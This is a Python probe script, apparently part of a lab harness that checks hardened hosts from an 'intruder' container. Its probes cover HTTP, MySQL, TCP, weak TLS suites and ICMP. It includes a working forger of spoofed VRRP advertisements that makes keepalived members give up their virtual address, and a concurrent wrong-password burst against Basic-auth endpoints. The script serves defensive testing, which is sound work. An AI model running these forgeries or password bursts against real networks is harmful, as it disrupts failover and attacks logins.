#!/usr/bin/env python3
"""Run inside the lab's intruder container (a host in no inventory group): try each
probe of a plan and print what came back, one JSON object per probe.

    python3 intruder_probes.py PLAN_JSON     (or - to read the plan from standard input)
    python3 intruder_probes.py --forge-vrrp FORGERY_JSON
    python3 intruder_probes.py --guess-burst BURST_JSON


A probe is ``{"name", "kind": "http", "method", "url", "body"}``,
``{"name", "kind": "mysql", "address", "port"}``, ``{"name", "kind": "tcp",
"address", "port"}`` (does anything accept a connection) or ``{"name", "kind":
"tls_cbc", "address", "port"}`` (a TLS 1.2 client offering only CBC suites with a
SHA-1 MAC: does the server complete the handshake) or ``{"name", "kind": "icmp",
"address", "type"}`` (an echo, 8, or timestamp, 13, request: does a reply come). A probe the host firewall
drops ends as ``no answer`` after TIMEOUT seconds; probes run in parallel, so the
whole plan takes a few timeouts, not one per probe.

``--forge-vrrp`` sends forged VRRP advertisements for ``seconds``: ``{"vrid", "vip",
"seconds", "addresses"}``. Each claims priority 255 (the address's owner) for
``vrid``, from the address of one member of ``addresses`` (spoofed) to every other
member and to VRRP's multicast group, twice: plain VRRP, and VRRP inside an IPsec
AH header whose digest is made up. It needs CAP_NET_RAW (docker's default) and
prints the number of packets sent. Unauthenticated keepalived obeys the plain ones:
every member steps down and nobody holds the address while they come.

``--guess-burst`` tries ``{"url", "user", "count", "concurrency"}``: ``count``
requests, each with another wrong password, ``concurrency`` at a time, and prints
``{"statuses": {status: count}, "seconds"}``.

The intruder has no credentials
and trusts no CA (certificates are not checked: what is tested is whether the
daemon obeys a stranger, not whether the stranger trusts it). Standard library
only: the container has Python and nothing of the stack.
"""

import base64
import json
import os
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

STRANGER = ssl.create_default_context()
STRANGER.check_hostname = False
STRANGER.verify_mode = ssl.CERT_NONE
TIMEOUT = 4
# A client that offers nothing but TLS 1.2 CBC suites with a SHA-1 MAC.
CBC_SHA1 = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CBC_SHA1.check_hostname = False
CBC_SHA1.verify_mode = ssl.CERT_NONE
CBC_SHA1.minimum_version = CBC_SHA1.maximum_version = ssl.TLSVersion.TLSv1_2
CBC_SHA1.set_ciphers("ECDHE-ECDSA-AES128-SHA:ECDHE-ECDSA-AES256-SHA:ECDHE-RSA-AES128-SHA:ECDHE-RSA-AES256-SHA")


def _no_connection(error):
    """``no answer`` (dropped: a timeout) or ``closed`` (nothing listens, or a reset)."""
    text = str(getattr(error, "reason", error))
    return {"status": "no answer" if "timed out" in text else "closed", "answer": f"no connection: {text}"}


def http(probe):
    body = probe.get("body")
    request = urllib.request.Request(probe["url"], method=probe.get("method", "GET"),
                                     data=body.encode() if body is not None else None,
                                     headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT, context=STRANGER) as response:  # noqa: S310
            return {"status": response.status, "answer": response.read(200).decode(errors="replace")}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "answer": error.read(200).decode(errors="replace")}
    except (OSError, ssl.SSLError) as error:
        return _no_connection(error)


def _over_tcp(probe, talk):
    """``talk(connection)`` over a TCP connection to the probe's address and port; without one,
    what ``_no_connection`` says."""
    try:
        with socket.create_connection((probe["address"], probe["port"]), timeout=TIMEOUT) as conn:
            return talk(conn)
    except OSError as error:
        return _no_connection(error)


def _mysql_greeting(conn):
    """The server's first packet: a handshake (10) lets a client try to log in; an error (0xff) does not."""
    packet = conn.recv(512)
    if len(packet) > 4 and packet[4] == 0xFF:
        return {"status": "error packet", "answer": packet[7:].decode(errors="replace")}
    return {"status": "handshake", "answer": "the server offers a login"}


def _cbc_handshake(raw):
    """Whether the server completes a handshake with a client offering only CBC-SHA1 suites."""
    try:
        with CBC_SHA1.wrap_socket(raw) as conn:
            return {"status": "handshake", "answer": f"negotiated {conn.cipher()[0]}"}
    except ssl.SSLError as error:  # an OSError too: caught here, before _over_tcp
        return {"status": "tls refused", "answer": str(error)}


def mysql(probe):
    """What a MySQL server's first packet offers a stranger."""
    return _over_tcp(probe, _mysql_greeting)


def tcp(probe):
    """Whether anything accepts a TCP connection on that port."""
    return _over_tcp(probe, lambda conn: {"status": "connected", "answer": "a connection was accepted"})


def tls_cbc(probe):
    """Whether the server accepts a client that offers only CBC-SHA1 suites."""
    return _over_tcp(probe, _cbc_handshake)


def _checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _vrrp_advert(vrid, vip, auth_type):
    """A VRRPv2 advertisement: priority 255, one address, advert interval 1 s."""
    body = struct.pack("!BBBBBBH", 0x21, vrid, 255, 1, auth_type, 1, 0) + socket.inet_aton(vip) + b"\0" * 8
    return body[:6] + struct.pack("!H", _checksum(body)) + body[8:]


def _ip_packet(source, destination, protocol, payload):
    """An IPv4 header with a spoofed source and TTL 255 (VRRP's), then the payload; the
    kernel fills in the checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(destination)) + payload


def forged_vrrp_packets(vrid, vip, addresses):
    """(destination, packet) for every forgery: plain VRRP (protocol 112) and VRRP in an AH
    header (protocol 51) with a made-up digest, from each address to the others and to 224.0.0.18."""
    packets = []
    for source in addresses:
        for destination in [a for a in addresses if a != source] + ["224.0.0.18"]:
            packets.append((destination, _ip_packet(source, destination, 112, _vrrp_advert(vrid, vip, 0))))
            spi = struct.unpack("!I", socket.inet_aton(source))[0]
            header = struct.pack("!BBHII", 112, 4, 0, spi, 1) + os.urandom(12)
            packets.append((destination, _ip_packet(source, destination, 51, header + _vrrp_advert(vrid, vip, 2))))
    return packets


def forge_vrrp(forgery):
    """Send the forgeries every 0.1 s for ``seconds``; return how many packets went out."""
    packets = forged_vrrp_packets(int(forgery["vrid"]), forgery["vip"], forgery["addresses"])
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent, end = 0, time.monotonic() + float(forgery["seconds"])
    while time.monotonic() < end:
        for destination, packet in packets:
            sender.sendto(packet, (destination, 0))
            sent += 1
        time.sleep(0.1)
    return sent


def guess_burst(burst):
    """``count`` GETs of ``url``, each with a different wrong password, ``concurrency`` at once."""
    def guess(number):
        token = base64.b64encode(f"{burst['user']}:wrong-{number}-{os.urandom(4).hex()}".encode()).decode()
        request = urllib.request.Request(burst["url"], headers={"Authorization": f"Basic {token}"})
        try:
            with urllib.request.urlopen(request, timeout=TIMEOUT, context=STRANGER) as response:  # noqa: S310
                return str(response.status)
        except urllib.error.HTTPError as error:
            return str(error.code)
        except (OSError, ssl.SSLError):
            return "no connection"
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=int(burst["concurrency"])) as pool:
        results = list(pool.map(guess, range(int(burst["count"]))))
    return {"statuses": {status: results.count(status) for status in sorted(set(results))},
            "seconds": round(time.monotonic() - started, 2)}


def icmp(probe):
    """An ICMP echo (type 8) or timestamp (type 13) request: ``answered`` when the matching reply
    (0 or 14) comes back from the address, else ``no answer``."""
    request, reply = int(probe["type"]), {8: 0, 13: 14}[int(probe["type"])]
    ident = os.getpid() & 0xFFFF
    body = struct.pack("!HH", ident, 1) + (b"\0" * 12 if request == 13 else b"promha")
    packet = struct.pack("!BBH", request, 0, 0) + body
    packet = packet[:2] + struct.pack("!H", _checksum(packet)) + packet[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as conn:
        conn.settimeout(1)
        conn.sendto(packet, (probe["address"], 0))
        end = time.monotonic() + TIMEOUT
        while time.monotonic() < end:
            try:
                data, (source, _) = conn.recvfrom(1024)
            except OSError:
                continue
            header = (data[0] & 0x0F) * 4
            if source == probe["address"] and data[header] == reply and data[header + 4:header + 6] == body[:2]:
                return {"status": "answered", "answer": f"ICMP type {reply}"}
    return {"status": "no answer", "answer": "no reply"}


def run(probe):
    kinds = {"http": http, "mysql": mysql, "tcp": tcp, "tls_cbc": tls_cbc, "icmp": icmp}
    return {"name": probe["name"], **kinds[probe["kind"]](probe)}


def main():
    if sys.argv[1] == "--forge-vrrp":
        print(forge_vrrp(json.loads(sys.argv[2])), flush=True)
        return
    if sys.argv[1] == "--guess-burst":
        print(json.dumps(guess_burst(json.loads(sys.argv[2]))), flush=True)
        return
    plan = json.loads(sys.stdin.read() if sys.argv[1] == "-" else sys.argv[1])
    with ThreadPoolExecutor(max_workers=32) as pool:
        for result in pool.map(run, plan):
            print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
